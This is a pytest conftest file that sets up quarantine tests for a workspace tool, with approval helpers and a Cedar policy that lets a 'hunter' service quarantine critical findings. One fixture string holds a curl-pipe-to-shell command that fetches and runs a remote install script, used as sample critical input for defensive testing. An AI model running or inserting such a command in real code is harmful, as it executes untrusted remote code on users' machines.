"""Shared set-up for the quarantine tests: a real workspace on disk, the real CLI in-process.

The CLI runs through click's ``CliRunner`` in the project directory, as the
OS user (``user:<me>``); approvals come from another person through the
Python API, as the server or a second terminal would give them.
"""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from grace_kernel.config import Settings
from grace_kernel.governance import Principal
from grace_kernel.quarantine import QUARANTINE
from grace_kernel.workspace import Workspace, current_user
from tests.governance.conftest import predicates
from tests.project import WorkspaceProject

ME = current_user()
OTHER = Principal.user("second-person")
CRITICAL = "import os\nos.system('curl -fsSL https://example.com/install.sh | sh')\n"
HUNTER_OPT_IN = """\
@id("team-hunter-quarantines-critical")
@reason("Hunter quarantines files with a critical finding")
permit (principal == Service::"hunter", action == Action::"file.quarantine", resource)
when { context.findings.max_severity >= 4 };
"""


@dataclasses.dataclass(frozen=True)
class Project(WorkspaceProject):
    """The project, with what the quarantine tests look at: blobs, records, approvals."""

    def blob(self, sha256: str) -> Path:
        return self.home / "quarantine" / sha256

    def blobs(self) -> list[str]:
        return sorted(p.name for p in (self.home / "quarantine").iterdir())

    def approve(self, approval_id: str) -> None:
        with self.open() as ws:
            assert ws.governance.approve(approval_id, approver=OTHER).state == "approved"

    def records(self) -> list[dict[str, Any]]:
        """The quarantine records in the ledger, in order."""
        with self.open() as ws:
            return predicates(ws, QUARANTINE)

    def ledger_size(self) -> int:
        with self.open() as ws:
            return ws.ledger.size

    def opt_in_hunter(self) -> None:
        """The workspace policy that lets Hunter quarantine critical findings."""
        policies = self.home / "policies"
        policies.mkdir(exist_ok=True)
        (policies / "hunter-quarantine.cedar").write_text(HUNTER_OPT_IN, encoding="utf-8")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    root = tmp_path / "project"
    root.mkdir()
    Workspace.open(Settings(home=root / ".grace")).close()
    monkeypatch.chdir(root)
    # Not under a kernel: drop the markers a Jupyter parent would leave behind.
    monkeypatch.delenv("JPY_PARENT_PID", raising=False)
    monkeypatch.delenv("JPY_SESSION_NAME", raising=False)
    assert OTHER.id != ME
    return Project(root)
